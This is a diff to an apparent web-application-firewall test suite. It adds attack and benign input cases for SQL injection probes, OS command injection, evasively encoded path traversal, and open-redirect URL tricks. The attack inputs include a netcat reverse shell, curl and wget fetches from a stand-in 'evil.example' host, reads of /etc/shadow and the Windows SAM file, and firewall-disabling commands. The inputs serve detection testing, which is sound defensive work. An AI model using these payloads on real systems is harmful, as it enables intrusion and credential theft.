@@ -163,6 +163,13 @@ describe('Sidewall variables', () => {
       ['DECODED_VALUES:PATH_SEGMENTS:1', '@streq seg value'],
     ]);
   });
+  it('DECODED_VALUES: each XML text node decoded on its own (XML:/* stays their concatenation)', () => {
+    const body = `<?xml version="1.0"?><r><q>${b64('first value')}</q><n>1</n><c><![CDATA[${b64('cdata value')}]]></c><a k="${b64('attr value')}"/></r>`;
+    assertEntries('DECODED_VALUES', request({ body, contentType: 'application/xml' }), [
+      ['DECODED_VALUES:XML:/*', '@streq first value'], ['DECODED_VALUES:XML:/*', '@streq cdata value'], ['DECODED_VALUES:XML://@*', '@streq attr value'],
+    ]);
+    assertEntries('XML:/*', request({ body, contentType: 'application/xml' }), [['XML:/*', `@streq ${b64('first value')}1${b64('cdata value')}`]]);
+  });
 });
 
 // ---- rules -----------------------------------------------------------------------------------
@@ -191,6 +198,12 @@ const CASES: RuleCase[] = [
     benign: [h('x-sort', 'name,-created_at'), q(b64('select the best option from the list')), h('x-q', 'union of two sets')],
   },
   {
+    id: 9510102, name: 'SQL boolean and column-count probes in any value',
+    attacks: [q('ORDER BY 10'), q('order by 3,4--'), q('or 1=1'), q('OR x=y--'), q('AND 1=1--'), q("AND 7300=7300 AND 'pKlZ'='pKlY"), q('WHERE 1=1 AND 1=0'), q('or true--'), q("') or ('a'='a")],
+    benign: [q('Order by date, please'), q('order by 10am tomorrow'), q('or maybe not'), q('and/or'), q('x = y + 1'), q('rock and roll'), q("It's a 1 = 1 match, isn't it? Or is it 2 - 1?"),
+      q('Where can I find the union of both sets?'), q('Black and white = classic'), q('true'), q('or')],
+  },
+  {
     id: 9510110, name: 'XSS (libinjection) in custom headers / decoded values',
     attacks: [h('x-display', '<script>alert(1)</script>'), q(b64('<img src=x onerror=alert(1)>'))],
     benign: [h('x-display', 'compact'), q(b64('Tom & Jerry <3 forever'))],
@@ -209,21 +222,31 @@ const CASES: RuleCase[] = [
   {
     id: 9510120, name: 'OS command injection: every command position (separator, `…`, $(…), start of value)',
     attacks: [h('x-a', 'x;/usr/bin/id\\n'), h('x-a', 'a&&cat${IFS}/etc/hosts'), h('x-a', '$(ls/tmp)'), h('x-a', '`id`'), h('x-a', 'x|nc -e /bin/sh 10.0.0.1 4444'),
-      h('x-a', '& netsh firewall set opmode disable'), h('x-a', 'x\nwhoami'), q(b64('| python3 -c "import os"'))],
+      h('x-a', '& netsh firewall set opmode disable'), h('x-a', 'x\nwhoami'), q(b64('| python3 -c "import os"')), h('x-a', '$(`dir`)'), h('x-a', "'\\n/bin/ls -al\\n'"),
+      h('x-a', '; sysinfo')],
     benign: [h('x-a', 'idle'), h('x-a', 'names; ids; categories'), h('x-a', 'cats & dogs'), h('x-a', 'the shell (sh) is fine'), h('x-a', 'echo chamber'),
-      h('x-a', 'A|B|C'), h('x-a', 'sleeping bag')],
+      h('x-a', 'A|B|C'), h('x-a', 'sleeping bag'), h('x-a', 'C:\\new\\notes.txt'), h('x-a', 'dir'), h('x-a', 'sort; direction=asc')],
   },
   {
     id: 9510121, name: 'OS command injection: code calling a shell, Windows commands, probes',
     attacks: [q("; system('curl https://evil.example/x');"), q("| system('sleep 5');"), q("exec('pwd')"), q("${@print(system($_SERVER['HTTP_USER_AGENT']))}"),
-      q("';phpinfo();//"), q('os.system("id")'), q('& net view'), q('dir C:\\'), q('type C:\\boot.ini'), q('sleep 1'), q('which nc'), h('x-probe', 'which python3')],
+      q("';phpinfo();//"), q('os.system("id")'), q('& net view'), q('dir C:\\'), q('type C:\\boot.ini'), q('sleep 1'), q('which nc'), h('x-probe', 'which python3'),
+      q('ifconfig'), q('whoami /all'), q('type %SYSTEMROOT%\\repair\\SAM'), q('&& reg add "HKLM\\System\\x" /v y /d 0 /f'), q('wget https://evil.example/x.sh')],
     benign: [q('db.exec("SELECT 1")'), q('$this->exec($query)'), q('the system (as designed) works'), q('net income grew'), q('a net view of the city'),
-      q('which one is better?'), q('which nc is closest'), q('sleep 8 hours a night'), q('C:\\Users\\Public\\notes.txt', 'file'), q('type C: drive', 'q'), q('Sleep well')],
+      q('which one is better?'), q('which nc is closest'), q('sleep 8 hours a night'), q('C:\\Users\\Public\\notes.txt', 'file'), q('type C: drive', 'q'), q('Sleep well'),
+      q('whoami page'), q('ifconfig output explained'), q('Register & reg add-ons'), q('use wget or curl to download'), q('%SYSTEMROOT% is a variable')],
   },
   {
     id: 9510150, name: 'path traversal in custom headers / decoded values',
     attacks: [h('x-file', '../../../etc/shadow'), q(b64('..\\..\\windows\\win.ini')), h('x-template', '....//....//etc')],
     benign: [h('x-file', 'reports/2024/q1.pdf'), q(b64('wait... what?')), h('x-template', 'v1.2.3')],
+  },
+  {
+    id: 9510151, name: 'path traversal through evasive encodings',
+    attacks: [q('%c0%ae%c0%ae%c0%afetc%c0%afpasswd', 'file'), q('..%e0%80%af..%e0%80%afboot.ini', 'file'), q('%f0%80%80%ae%f0%80%80%ae/x', 'file'), q('..%u2216..%u2216windows', 'file'),
+      q('%%32%%65%%32%%65/etc/hosts', 'file'), q('0x2e0x2e/etc', 'file'), q('..0x2fetc0x2fissue', 'file'), q('.?%bg%qf.?%bg%qfetc', 'file'), h('x-file', '%25c0%25af..%25c0%25af')],
+    benign: [q('50%off today', 'q'), q('100%', 'q'), q('caf%C3%A9', 'q'), q('Loading...', 'q'), q('if (c == 0x2f) return;', 'code'), q('Wait..?', 'q'),
+      q('caf%u00e9 cr%u00e8me', 'q'), q('0x2e is a dot', 'q'), q('v1.2..3', 'q'), q('size 10%-20%', 'q')],
   },
   {
     id: 9510160, name: 'OS file names in custom headers / decoded values / path',
@@ -272,11 +295,15 @@ const CASES: RuleCase[] = [
       q('https://trusted.example.com@evil.example/', 'url'), q('http:trusted.example.com@evil.example', 'url'), q('http://3627734734/', 'url'),
       q('http://0330.072.0326.0316/', 'url'), q('http://0xd8.3856078/', 'url'), q('http://[::ffff:216.58.214.206]/', 'url'),
       q('http://evil.example\\trusted.example.com', 'url'), q('https:/\\evil.example', 'url'), h('x-return-to', '//evil.example'),
+      q('http://00330.0x3a.54990/', 'url'), q('http://472.314.470.462', 'url'), q('http://[::216.58.214.206]/', 'url'), q('https:///evil.example', 'url'),
+      q('https://%09/evil.example', 'url'), q('https:evil.example', 'url'), q('/?next=//evil.example&x=1', 'q'),
       { uri: '/go/' + encodeURIComponent('//evil.example') }, json({ redirect: '////evil.example/' })],
     benign: [q('/account/settings', 'next'), q('https://app.example.com/oauth/callback', 'redirect_uri'), q('http://localhost:3000/callback', 'redirect_uri'),
       q('https://maps.example.com/@51.5074,-0.1278,15z', 'url'), q('jane.doe@example.com', 'email'), q('\\\\fileserver.corp.example\\share\\a.txt', 'path'),
       q('ftp://anonymous@ftp.example.com/pub', 'url'), q('// TODO: fix the. thing', 'note'), q('see http: the protocol, version 1.1', 'q'),
-      q('data:image/png;base64,iVBORw0KGgo=', 'avatar'), q('/home/alice/projects/app', 'dir'), q('https://example.com/a\\b', 'q')],
+      q('data:image/png;base64,iVBORw0KGgo=', 'avatar'), q('/home/alice/projects/app', 'dir'), q('https://example.com/a\\b', 'q'),
+      q('http://10.0.0.1:8080/health', 'url'), q('http://192.168.1.20/', 'url'), q('https://2024.example.com/', 'url'), q('https://example.com/?next=/account', 'url'),
+      q('https://idp.example.com/authorize?redirect_uri=https://app.example.com/cb', 'login'), q('file:///tmp/report.pdf', 'url'), q('http://[2001:db8::1]/', 'url')],
   },
   {
     id: 9510600, name: 'XXE declarations in an XML body',
